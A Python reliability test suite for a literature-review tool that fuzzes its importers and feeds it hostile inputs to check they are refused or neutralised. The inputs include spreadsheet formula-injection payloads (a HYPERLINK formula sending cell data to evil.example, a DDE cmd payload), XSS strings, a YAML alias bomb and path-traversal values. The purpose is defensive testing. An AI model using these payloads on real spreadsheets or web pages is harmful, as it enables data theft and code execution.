"""Reliability suite: damaged and hostile input, and writers that run at once or are killed.

Every case is run and judged clean or failed, and the table gives category, cases, handled cleanly, failed:

* import: 36 mutations of each real export (truncated, a byte flipped, NUL bytes, invalid UTF-8, other line
  ends, a huge line, BOM only, empty, binary files renamed, lines deleted or doubled, UTF-16, cp1252, the
  file twice).  Clean means: no traceback; a refused file is an ImportFileError naming the file; the counts
  add up; what the damage did not touch is imported unchanged; any loss is reported; a case takes < 20 s.
* protocol: the attacks a received review can carry (alias bomb, huge numbers, impossible dates, deep
  nesting, NUL, !!binary, folders outside the review, unsafe reviewer names, 400 nested parentheses...):
  each is a ProtocolError naming the file (and the line where there is one), in < 20 s.
* formula cells and HTML: record text that a spreadsheet would run or a browser would execute, written
  through every CSV writer and HTML helper: neutralised and read back unchanged / shown as text.
* concurrency and SIGKILL (full run only): writers appending to one decision log at once, and writers
  killed at random moments; every decision reported saved must be in the log, once, on a line of its own.
* stopping a run (full run only): Ctrl-C during a run must end it within 2 s with one line.

``python -m benchmarks reliability`` runs everything, with nine more whole real exports where
``../shared/data/external`` is present (about three minutes); ``tests/test_reliability.py`` runs the quick set
(import, protocol, formula cells, HTML) on the excerpts in ``tests/data``.
"""

from __future__ import annotations

import csv
import gzip
import html.parser
import io
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from benchmarks._table import print_table
from review_tools.io.importer import import_file
from review_tools.io.problems import ImportFileError, ImportResult

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "tests" / "data"
PROTOCOL = ROOT / "review" / "protocol.yaml"
EXPORTS = (
    DATA / "kwok_2020_embase_excerpt.ris",
    DATA / "nagtegaal_2019_excerpt.csv",
    DATA / "reliability" / "scopus_litstudy_excerpt.csv",
    DATA / "reliability" / "scopus_colrev.bib",
    DATA / "reliability" / "medline_jabref.txt",
    DATA / "reliability" / "wos_plaintext_excerpt.txt",
    DATA / "reliability" / "wos_tab_excerpt.txt",
    DATA / "reliability" / "ais_endnote_colrev.txt",
    DATA / "reliability" / "pubmed_jabref.xml",
    DATA / "reliability" / "endnote_jabref.xml",
    DATA / "reliability" / "google_scholar_colrev.json",
)
EXTERNAL = ROOT.parent / "shared" / "data" / "external"
# Whole real files, where the developers' shared data is present (a user's clone runs the excerpts only).
EXTERNAL_EXPORTS = tuple(EXTERNAL / f for f in (
    "litstudy-testdata/example.ris", "litstudy-testdata/ieee_1.csv", "litstudy-testdata/springer.csv",
    "wosfile-data/wos_plaintext.txt", "wosfile-data/wos_tab_delimited_win_utf8.txt",
    "jabref-testresources/jabref-authors.bib", "jabref-testresources/NbibImporterTest.nbib",
    "colrev-search-samples/ieee_ris.ris", "colrev-search-samples/pubmed_csv.csv",
    "jabref-testresources/MedlineImporterTestArticleItalics.xml", "jabref-testresources/Endnote.entries.enw",
    "jabref-testresources/OvidImporterTest4.txt", "tethne-testdata/zotero.rdf",
))
CASE_SECONDS = 20.0
STOP_SECONDS = 2.0


@dataclass(frozen=True)
class Case:
    """One reliability case: ``check`` runs it in a scratch folder and returns what went wrong, or None."""

    category: str
    name: str
    check: Callable[[Path], str | None]


def run_case(case: Case) -> str | None:
    """The case's failure, or None when it was handled cleanly; a traceback or a slow case is a failure."""
    with tempfile.TemporaryDirectory(prefix="reliability-") as tmp:
        t0 = time.monotonic()
        try:
            problem = case.check(Path(tmp))
        except Exception as exc:  # the point of the suite: an escaping exception is a failure, not a crash
            problem = f"{type(exc).__name__}: {str(exc)[:200]}"
        seconds = time.monotonic() - t0
    if problem is None and seconds > CASE_SECONDS:
        problem = f"took {seconds:.1f} s"
    return problem


# -- import mutations -------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Mutation:
    name: str
    apply: Callable[[bytes, random.Random], bytes]
    expect: str  # "all": nothing lost or altered beyond one record; "prefix": records before a cut kept;
    # "any": no silent loss; "refuse": an ImportFileError naming the file
    must_warn: bool = False


def _ascii_gap(data: bytes, rng: random.Random) -> int:
    """A position between two ASCII letters in the body of the file (so an inserted byte damages one
    place, not a multi-byte character)."""
    for _ in range(1000):
        i = rng.randrange(len(data) // 10, len(data) - 1)
        if 0x61 <= data[i - 1] <= 0x7A and 0x61 <= data[i] <= 0x7A:
            return i
    return len(data) // 2


def _insert(piece: bytes) -> Callable[[bytes, random.Random], bytes]:
    def apply(data: bytes, rng: random.Random) -> bytes:
        i = _ascii_gap(data, rng)
        return data[:i] + piece + data[i:]
    return apply


def _truncate(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randrange(len(data) // 10, len(data) * 95 // 100)]


def _flip(data: bytes, rng: random.Random) -> bytes:
    i = rng.randrange(len(data))
    return data[:i] + bytes([data[i] ^ (1 << rng.randrange(8))]) + data[i + 1:]


def _lines(data: bytes) -> list[bytes]:
    return data.splitlines(keepends=True)


def _delete_line(data: bytes, rng: random.Random) -> bytes:
    lines = _lines(data)
    del lines[rng.randrange(1, len(lines))]
    return b"".join(lines)


def _double_line(data: bytes, rng: random.Random) -> bytes:
    lines = _lines(data)
    i = rng.randrange(1, len(lines))
    return b"".join([*lines[:i], lines[i], *lines[i:]])


def _huge_line(data: bytes, rng: random.Random) -> bytes:
    lines = _lines(data)
    i = rng.randrange(len(lines) // 3, max(len(lines) // 3 + 1, 2 * len(lines) // 3))
    return b"".join([*lines[:i], b"x" * 300_000 + b"\n", *lines[i:]])


def _line_ends(end: bytes) -> Callable[[bytes, random.Random], bytes]:
    def apply(data: bytes, _rng: random.Random) -> bytes:
        return b"".join(line.rstrip(b"\r\n") + end for line in _lines(data))
    return apply


def _mixed_ends(data: bytes, _rng: random.Random) -> bytes:
    return b"".join(line.rstrip(b"\r\n") + (b"\r\n" if n % 2 else b"\n") for n, line in enumerate(_lines(data)))


def _reencode(codec: str) -> Callable[[bytes, random.Random], bytes]:
    def apply(data: bytes, _rng: random.Random) -> bytes:
        return data.decode("utf-8-sig").encode(codec, errors="replace")
    return apply


def _const(value: bytes) -> Callable[[bytes, random.Random], bytes]:
    return lambda _data, _rng: value


def _gzip(data: bytes, _rng: random.Random) -> bytes:
    return gzip.compress(data, mtime=0)


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 4
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(range(128, 256)) * 8

MUTATIONS: tuple[Mutation, ...] = (
    *(Mutation(f"truncated {n}", _truncate, "prefix") for n in range(1, 7)),
    *(Mutation(f"byte flipped {n}", _flip, "any") for n in range(1, 6)),
    *(Mutation(f"NUL byte {n}", _insert(b"\x00"), "all", must_warn=True) for n in range(1, 4)),
    Mutation("invalid UTF-8 0xFF", _insert(b"\xff"), "all", must_warn=True),
    Mutation("invalid UTF-8 lone lead byte", _insert(b"\xc3"), "all", must_warn=True),
    Mutation("invalid UTF-8 continuation byte", _insert(b"\x80"), "all", must_warn=True),
    Mutation("invalid UTF-8 surrogate", _insert(b"\xed\xa0\x80"), "all", must_warn=True),
    Mutation("invalid UTF-8 0xF8", _insert(b"\xf8"), "all", must_warn=True),
    Mutation("CRLF line ends", _line_ends(b"\r\n"), "all"),
    Mutation("CR line ends (classic Mac)", _line_ends(b"\r"), "all"),
    Mutation("mixed line ends", _mixed_ends, "all"),
    Mutation("a 300,000-character line", _huge_line, "any"),
    Mutation("BOM only", _const(b"\xef\xbb\xbf"), "refuse"),
    Mutation("empty", _const(b""), "refuse"),
    Mutation("PNG renamed", _const(PNG), "refuse"),
    Mutation("ZIP renamed", _const(ZIP), "refuse"),
    Mutation("PDF renamed", _const(PDF), "refuse"),
    Mutation("gzip renamed", _gzip, "refuse"),
    *(Mutation(f"line deleted {n}", _delete_line, "any") for n in range(1, 3)),
    *(Mutation(f"line doubled {n}", _double_line, "any") for n in range(1, 3)),
    Mutation("UTF-16 with BOM", _reencode("utf-16"), "all"),
    Mutation("cp1252", _reencode("cp1252"), "count"),
    Mutation("the file twice", lambda data, _rng: data + b"\n" + data, "any"),
)


def _titles(result: ImportResult) -> Counter[str]:
    return Counter(r.title for r in result.records)


def _judge(path: Path, original: ImportResult, mutation: Mutation, mutated: bytes) -> str | None:
    try:
        result = import_file(path)
    except ImportFileError as exc:
        if not str(exc).startswith(str(path)):
            return f"error does not name the file: {exc}"
        if mutation.expect in ("refuse", "prefix", "any"):
            return None if mutation.expect != "prefix" or len(mutated) < 2000 else f"refused a cut file: {exc}"
        return f"refused: {exc}"
    if mutation.expect == "refuse":
        return f"imported {result.imported} record(s) from a file that is not an export"
    if any(p.file != str(path) for p in result.problems):
        return "a problem does not name the file"
    if any(p.skipped and p.line is None for p in result.problems):
        return "a skipped record without its line"
    n = original.imported
    if mutation.must_warn and not result.problems:
        return "the damage was not reported"
    if mutation.expect == "all":
        missing = _titles(original) - _titles(result)
        if sum(missing.values()) > 1:
            return f"{sum(missing.values())} of {n} records lost or altered"
    elif mutation.expect == "count" and result.imported != n:
        return f"{result.imported} of {n} records imported"
    elif mutation.expect == "prefix":
        cut_line = mutated.count(b"\n") + mutated.count(b"\r") - mutated.count(b"\r\n") + 1
        before = sum(1 for r in original.records if (r.line or 0) < cut_line) - 1
        if result.read < before:
            return f"{result.read} records read, {before} were whole before the cut"
    elif mutation.expect == "any" and result.imported < n - 1 and not result.problems:
        return f"{n - result.imported} records lost without a word"
    return None


def import_cases(files: Iterable[Path] = EXPORTS) -> list[Case]:
    """Every mutation of every export, seeded by file and mutation so each run makes the same files."""
    cases = []
    for source in files:
        data = source.read_bytes()
        original = import_file(source)
        for mutation in MUTATIONS:
            def check(tmp: Path, source: Path = source, data: bytes = data, original: ImportResult = original,
                      mutation: Mutation = mutation) -> str | None:
                mutated = mutation.apply(data, random.Random(f"{source.name}/{mutation.name}"))
                path = tmp / source.name
                path.write_bytes(mutated)
                return _judge(path, original, mutation, mutated)
            cases.append(Case(f"import: {original.format}", f"{source.name}: {mutation.name}", check))
    return cases


# -- protocol attacks -------------------------------------------------------------------------------------

def _protocol_text() -> str:
    return PROTOCOL.read_text(encoding="utf-8")


def _first_string(text: str) -> tuple[str, str]:
    """The first database's search string line, to put an attack in its place."""
    line = next(line for line in text.splitlines() if line.strip().startswith("search_string:"))
    return line, line.split(":", 1)[0]


def _nested(depth: int) -> str:
    return "(" * depth + "customer" + ")" * depth


PROTOCOL_ATTACKS: tuple[tuple[str, Callable[[str], str], bool], ...] = (
    # name, new protocol text from the sample's, whether the error must give a line
    ("YAML alias bomb", lambda t: t + "\nbomb: &a [x, x, x, x, x, x, x, x, x]\nb2: &b [*a, *a, *a, *a, *a, *a]\n"
     "b3: &c [*b, *b, *b, *b, *b, *b]\nb4: [*c, *c, *c, *c, *c, *c, *c, *c]\n", True),
    ("impossible date", lambda t: t.replace("title:", "searched: 2024-02-30\ntitle:", 1), True),
    ("5,000-digit integer", lambda t: t.replace("seed:", "seed: " + "9" * 5000 + "\nold_seed:", 1), True),
    ("10,000-deep nested list", lambda t: t + "\nextra: " + "[" * 10_000 + "]" * 10_000 + "\n", True),
    ("NUL byte", lambda t: t.replace("title:", "title:\x00", 1), True),
    ("!!binary value", lambda t: t.replace("title:", "title: !!binary aGVsbG8=\nold_title:", 1), True),
    ("unterminated quote", lambda t: t.replace("title:", 'title: "never closed\nold_title:', 1), True),
    ("export folder ../../../../etc", lambda t: t.replace("export_dir:", "export_dir: ../../../../etc\nold_dir:", 1),
     True),
    ("export folder /etc", lambda t: t.replace("export_dir:", "export_dir: /etc\nold_dir:", 1), True),
    ("400 nested parentheses in a search string",
     lambda t: t.replace(_first_string(t)[0], f"{_first_string(t)[1]}: '{_nested(400)}'", 1), True),
    ("a 2 MB protocol", lambda t: t + "\n# " + "x" * 2_000_000 + "\n", False),
    ("not UTF-8", lambda t: t.replace("title:", "title: caf\udce9", 1), True),
    ("tab indentation", lambda t: t.replace("\n  ", "\n\t", 1), True),
    ("a list instead of the protocol", lambda _t: "- a\n- b\n", True),
)


def _reviewer_attack(name: str) -> Callable[[str], str]:
    def apply(text: str) -> str:
        found = re.search(r"^(\s*reviewers:\s*)\[([^\]]*)\]", text, re.MULTILINE)
        if found:
            return text[:found.start()] + f"{found.group(1)}[{name!r}]" + text[found.end():]
        found = re.search(r"^(\s*reviewers:\s*\n\s*-\s*)(.+)$", text, re.MULTILINE)
        if found is None:
            raise AssertionError("the sample protocol has no reviewers list")
        return text[:found.start(2)] + repr(name) + text[found.end(2):]
    return apply


def protocol_cases() -> list[Case]:
    from review_tools.protocol import ProtocolError, load_protocol

    attacks = [*PROTOCOL_ATTACKS, *((f"reviewer name {n!r}", _reviewer_attack(n), True)
                                    for n in ("../outside/x", "/etc/passwd", "a/../../b"))]
    cases = []
    for name, change, needs_line in attacks:
        def check(tmp: Path, change: Callable[[str], str] = change, needs_line: bool = needs_line) -> str | None:
            path = tmp / "review" / "protocol.yaml"
            shutil.copytree(PROTOCOL.parent, path.parent)
            path.write_bytes(change(_protocol_text()).encode("utf-8", errors="surrogateescape"))
            try:
                load_protocol(path)
            except ProtocolError as exc:
                if not all(p.file == str(path) for p in exc.problems):
                    return f"a problem does not name the file: {exc}"
                if needs_line and not any(p.line for p in exc.problems):
                    return f"no line given: {exc}"
                return None
            return "accepted"
        cases.append(Case("protocol attacks", name, check))

    def folder(tmp: Path) -> str | None:
        try:
            load_protocol(tmp)
        except ProtocolError as exc:
            return None if "is a folder" in str(exc) else f"unclear: {exc}"
        return "accepted"

    def device(_tmp: Path) -> str | None:
        try:
            load_protocol("/dev/zero")
        except ProtocolError as exc:
            return None if "not a regular file" in str(exc) else f"unclear: {exc}"
        return "accepted"

    cases.append(Case("protocol attacks", "a folder given as the protocol", folder))
    if Path("/dev/zero").exists():
        cases.append(Case("protocol attacks", "/dev/zero given as the protocol", device))
    cases.append(Case("protocol attacks", "400 nested parentheses in diff", _diff_nested))
    return cases


def _diff_nested(tmp: Path) -> str | None:
    from review_tools.diff import protocol_diff
    from review_tools.protocol import ProtocolError, load_protocol

    base = tmp / "review"
    shutil.copytree(PROTOCOL.parent, base)
    old = load_protocol(base / "protocol.yaml")
    line, key = _first_string(_protocol_text())
    deep = base / "deep.yaml"
    deep.write_text(_protocol_text().replace(line, f"{key}: '{_nested(400)}'", 1), encoding="utf-8")
    try:
        new = load_protocol(deep, check_strings=False)
        protocol_diff(old, new)
    except ProtocolError:
        return None
    except RecursionError:
        return "RecursionError"
    return None


# -- spreadsheet formulas and HTML ------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'=already quoted")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _stored(payload: str) -> str:
    """What a CSV cell keeps of a value: line breaks as LF (see review_tools.csv_cells)."""
    return payload.replace("\r\n", "\n").replace("\r", "\n")


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _formula_records(tmp: Path, payload: str) -> str | None:
    from review_tools.io.writers import write_records
    from review_tools.records import Record, assign_ids

    records = [Record(title=payload + " segmentation", authors=[payload], abstract=payload, year=2020)]
    assign_ids(records)
    path = write_records(records, tmp / "records.csv")
    if any(c.startswith(FORMULA_START) for c in _cells(path)):
        return "a formula cell in the record CSV"
    back = import_file(path).records[0]
    same = [" ".join(a.split()) == " ".join(b.split()) for a, b in ((back.title, records[0].title),
                                                                   (back.abstract, payload))]
    return None if all(same) else "changed on reading"


def _formula_decision(tmp: Path, payload: str) -> str | None:
    from review_tools.protocol import load_protocol
    from review_tools.screening import Decision, DecisionLog

    log = DecisionLog(tmp / "screening", load_protocol(PROTOCOL), ["r1"])
    log.record([Decision("r1", "title_abstract", "anna", "exclude", ("E2",), note=payload)])
    if any(c.startswith(FORMULA_START) for c in _cells(log.path("title_abstract", "anna"))):
        return "a formula cell in the decision log"
    return None if log.read()[0].note == _stored(payload) else "the note changed on reading"


def _formula_form(tmp: Path, payload: str) -> str | None:
    from review_tools.forms import add_rows, read_rows

    path = tmp / "extraction.csv"
    add_rows(path, ["record_id", "finding"], [{"record_id": "r1", "finding": payload}])
    if any(c.startswith(FORMULA_START) for c in _cells(path)):
        return "a formula cell in the form"
    kept = read_rows(path)[1][0][1]["finding"]  # forms trim the spaces around a value
    return None if kept.strip() == _stored(payload).strip() else "changed on reading"


def formula_cases() -> list[Case]:
    writers = (("record CSV", _formula_records), ("decision log", _formula_decision), ("form", _formula_form))
    return [Case("spreadsheet formulas", f"{what}: {payload!r}",
                  lambda tmp, f=f, payload=payload: f(tmp, payload))
            for what, f in writers for payload in FORMULAS]


HTML_PAYLOADS = ("<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<iframe src=//evil.example>",
                 '"><svg onload=alert(1)>', "</td></tr></table><script>x()</script>")


class _Active(html.parser.HTMLParser):
    """Finds elements or attributes that would run: script/iframe/svg/img elements, on* attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "svg", "img") or any(k.startswith("on") for k, _ in attrs):
            self.found.append(tag)


def _active(markup: str) -> list[str]:
    parser = _Active()
    parser.feed(markup)
    return parser.found


def _html_check(render: Callable[[str], str]) -> Callable[[str], Callable[[Path], str | None]]:
    def for_payload(payload: str) -> Callable[[Path], str | None]:
        def check(_tmp: Path) -> str | None:
            found = _active(render(payload))
            return f"active markup: {', '.join(found)}" if found else None
        return check
    return for_payload


def _captured(show: Callable[[], None]) -> str:
    from review_tools import display

    shown: list[str] = []
    real, display._show = display._show, lambda markup, metadata=None: shown.append(markup)
    try:
        show()
    finally:
        display._show = real
    return "".join(shown)


def html_cases() -> list[Case]:
    import pandas as pd

    from review_tools import display
    from review_tools.highlight import highlight

    renderers: tuple[tuple[str, Callable[[str], str]], ...] = (
        ("highlighted title", lambda p: highlight(p + " customer segmentation", ["customer", "segment*"])),
        ("report table", lambda p: _captured(lambda: display.table(pd.DataFrame({"title": [p]}), caption=p))),
        ("facts list", lambda p: _captured(lambda: display.definition_list([(p, p)]))),
        ("summary line", lambda p: _captured(lambda: display.summary(p))),
    )
    return [Case("HTML from record text", f"{what}: {payload}", _html_check(render)(payload))
            for what, render in renderers for payload in HTML_PAYLOADS]


# -- concurrent and killed writers ------------------------------------------------------------------------

WRITER = """
import sys
from review_tools.protocol import load_protocol
from review_tools.screening import Decision, DecisionLog
folder, protocol, name, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
log = DecisionLog(folder, load_protocol(protocol))
print("ready", flush=True)
sys.stdin.readline()
for i in range(count):
    log.record([Decision(f"{name}-{i}", "title_abstract", "anna", "include", note=f"{name} row {i}")])
    print(f"{name}-{i}", flush=True)
"""


def start_writers(folder: Path, names: list[str], count: int) -> list[subprocess.Popen]:
    """Processes that each append ``count`` decisions to one reviewer's log, started together; each prints
    a decision's record id once ``record`` has returned (the decision is reported saved)."""
    procs = [subprocess.Popen([sys.executable, "-c", WRITER, str(folder), str(PROTOCOL), name, str(count)],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) for name in names]
    for p in procs:
        if p.stdout.readline().strip() != "ready":
            raise RuntimeError("a writer did not start")
    for p in procs:
        p.stdin.write("go\n")
        p.stdin.flush()
    return procs


def _log_lines(folder: Path) -> tuple[list[str], list[str]]:
    """Record ids in the log, and lines that are not whole rows (interleaved or cut)."""
    from review_tools.screening import COLUMNS

    path = folder / "title_abstract__anna.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    bad = [",".join(r) for r in rows[1:] if len(r) != len(COLUMNS)]
    return [r[0] for r in rows[1:] if len(r) == len(COLUMNS)], bad


def concurrency_case(writers: int, count: int) -> Case:
    def check(tmp: Path) -> str | None:
        procs = start_writers(tmp, [f"w{i}" for i in range(writers)], count)
        saved = [line.strip() for p in procs for line in p.stdout]
        if any(p.wait() != 0 for p in procs):
            return "a writer failed"
        ids, bad = _log_lines(tmp)
        lost, doubled = set(saved) - set(ids), len(ids) - len(set(ids))
        if lost or doubled or bad or len(saved) != writers * count:
            return f"{len(lost)} lost, {doubled} doubled, {len(bad)} broken lines of {len(saved)} saved"
        return None
    return Case("concurrent writers", f"{writers} writers x {count} decisions", check)


def sigkill_case(round_: int) -> Case:
    def check(tmp: Path) -> str | None:
        from review_tools.protocol import load_protocol
        from review_tools.screening import Decision, DecisionLog

        rng = random.Random(round_)
        procs = start_writers(tmp, ["a", "b"], 1_000_000)
        time.sleep(rng.uniform(0.05, 0.6))
        for p in procs:
            os.kill(p.pid, signal.SIGKILL)
        reported = []
        for p in procs:
            p.wait()
            reported += [line.strip() for line in p.stdout if line.endswith("\n")]
        DecisionLog(tmp, load_protocol(PROTOCOL)).record([Decision("after", "title_abstract", "anna", "include")])
        ids, bad = _log_lines(tmp)
        lost = set(reported) - set(ids)
        leftovers = list(tmp.glob(".*.tmp-*"))
        if lost or bad or leftovers:
            return f"{len(lost)} lost, {len(bad)} broken lines, {len(leftovers)} temporary files left"
        return None
    return Case("writers killed (SIGKILL)", f"round {round_}", check)


# -- stopping a run ---------------------------------------------------------------------------------------

def stop_case(round_: int) -> Case:
    def check(tmp: Path) -> str | None:
        sys.path.insert(0, str(ROOT / "tests"))
        from conftest import write_notebook

        shutil.copytree(PROTOCOL.parent, tmp / "review")
        for i in (1, 2):
            write_notebook(tmp / "notebooks" / f"0{i}_slow.ipynb",
                           [f"import pathlib, time\npathlib.Path({str(tmp)!r}, 'started{i}').touch()\n"
                            "time.sleep(300)"])
        proc = subprocess.Popen([sys.executable, "-m", "review_tools.cli", "run", "--project", str(tmp)],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 120
        while not all((tmp / f"started{i}").exists() for i in (1, 2)) and time.monotonic() < deadline:
            time.sleep(0.1)
        t0 = time.monotonic()
        proc.send_signal(signal.SIGINT)
        try:
            _out, err = proc.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()
            return "still running 60 s after Ctrl-C"
        seconds = time.monotonic() - t0
        STOP_TIMES.append(seconds)
        lines = err.strip().splitlines()
        if seconds > STOP_SECONDS or len(lines) != 1 or proc.returncode != 130:
            return f"stopped in {seconds:.1f} s with {len(lines)} lines, exit {proc.returncode}"
        return None
    return Case("stopping a run (Ctrl-C)", f"round {round_}", check)


STOP_TIMES: list[float] = []


def quick_cases() -> list[Case]:
    """The cases the test suite runs (a few seconds)."""
    return [*import_cases(), *protocol_cases(), *formula_cases(), *html_cases()]


def all_cases() -> list[Case]:
    return [*quick_cases(), *import_cases(f for f in EXTERNAL_EXPORTS if f.exists()),
            concurrency_case(2, 1000), concurrency_case(4, 1000),
            *(sigkill_case(r) for r in range(60)), *(stop_case(r) for r in range(3))]


def run_all(cases: Iterable[Case]) -> Iterator[tuple[Case, str | None]]:
    for case in cases:
        yield case, run_case(case)


def main() -> None:
    t0 = time.monotonic()
    outcomes = list(run_all(all_cases()))
    by_category: dict[str, list[str | None]] = {}
    for case, problem in outcomes:
        by_category.setdefault(case.category, []).append(problem)
    rows = [(cat, len(p), sum(x is None for x in p), sum(x is not None for x in p)) for cat, p in by_category.items()]
    rows.append(("total", len(outcomes), sum(p is None for _, p in outcomes), sum(p is not None for _, p in outcomes)))
    print_table(("category", "cases", "handled cleanly", "failed"), rows)
    for case, problem in outcomes:
        if problem is not None:
            print(f"FAILED {case.category} / {case.name}: {problem}")
    if STOP_TIMES:
        print(f"\nCtrl-C to exit: {', '.join(f'{s:.2f}' for s in STOP_TIMES)} s (target {STOP_SECONDS:.0f} s)")
    print(f"{len(outcomes)} cases in {time.monotonic() - t0:.0f} s")


if __name__ == "__main__":
    main()
